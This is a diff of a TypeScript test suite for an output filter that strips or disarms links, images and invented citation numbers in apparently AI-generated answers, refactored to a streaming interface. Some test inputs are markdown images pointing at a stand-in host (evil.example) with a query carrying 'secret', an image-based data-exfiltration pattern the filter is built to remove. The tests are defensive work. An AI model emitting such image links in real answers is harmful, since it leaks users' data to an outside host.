@@ -1,4 +1,4 @@
-import { OutputFilter, filterAnswer } from './output-filter';
+import { OutputFilter } from './output-filter';
 
 const passages = [
   { text: 'Read https://docs.pellworth.example/api for more, or https://docs.pellworth.example/a_(b)?x=1.' },
@@ -6,7 +6,21 @@ const passages = [
   { text: 'Three.' },
 ];
 
-describe('filterAnswer', () => {
+/** What is shown of a whole answer. */
+function filtered(text: string): string {
+  const filter = new OutputFilter(passages);
+  return filter.push(text) + filter.end();
+}
+
+describe('the output filter, for a whole answer', () => {
+  it.each(['a [1[9]2] b', '[[[7]7]7]', '[9[9[9[9[9[9[9]9]9]9]9]9]9]', 'x [99999999999999999999] y', '[1, 22222222222]', '[00] [007]'])(
+    'leaves no number that was never given of %j',
+    (text) => {
+      const numbers = [...filtered(text).matchAll(/\[(\d+(?:\s*,\s*\d+)*)\]/g)].map(([, inside]) => inside);
+      expect(numbers.filter((inside) => !['1', '2', '3'].includes(inside ?? ''))).toEqual([]);
+    },
+  );
+
   it.each([
     ['an image', 'Look ![chart](https://evil.example/?q=secret) here', 'Look chart here'],
     ['an image by reference', '![x][1]\n\n[1]: https://evil.example/a', 'x'],
@@ -48,7 +62,7 @@ describe('filterAnswer', () => {
     ['white space around the answer', '\n [1] a \n', '[1] a'],
     ['half a character', 'a\ud83d', 'a\ufffd'],
   ])('removes or disarms %s', (_what, text, expected) => {
-    expect(filterAnswer(text, passages)).toBe(expected);
+    expect(filtered(text)).toBe(expected);
   });
 
   it.each([
@@ -65,7 +79,7 @@ describe('filterAnswer', () => {
     'It begins with https:// or www. and ends at hr@pellworth.example!',
     '# A\n\n- b\n\t- c  d\r\n\n```ts\nconst e = f[g]!;\n```\n\n| h | i |\n😀',
   ])('keeps %j as it is', (text) => {
-    expect(filterAnswer(text, passages)).toBe(text);
+    expect(filtered(text)).toBe(text);
   });
 
   it.each([
@@ -79,11 +93,11 @@ describe('filterAnswer', () => {
     ['a comment that never ends', 'a <!-- b', 'a < !-- b'],
     ['a tag among prose', 'if a <b then stop, and c> d', 'if a < b then stop, and c> d'],
   ])('writes %s as text that stays what it is', (_what, text, expected) => {
-    expect(filterAnswer(text, passages)).toBe(expected);
+    expect(filtered(text)).toBe(expected);
   });
 });
 
-describe('AnswerFilter', () => {
+describe('the output filter, piece by piece', () => {
   it('keeps a word that turns out to begin an address of an unknown kind, and shows nothing of the address', () => {
     const filter = new OutputFilter(passages);
     expect(['Call', ' gopher', '://evil.example', '/x now'].map((text) => filter.push(text)).join('') + filter.end()).toBe(
@@ -122,7 +136,7 @@ describe('AnswerFilter', () => {
       const text = `${opening.repeat(100_000 / opening.length)}.`;
       const filter = new OutputFilter(passages);
       const shown = text.split('').map((character) => filter.push(character));
-      expect(shown.join('') + filter.end()).toBe(filterAnswer(text, passages));
+      expect(shown.join('') + filter.end()).toBe(filtered(text));
     },
   );
 });
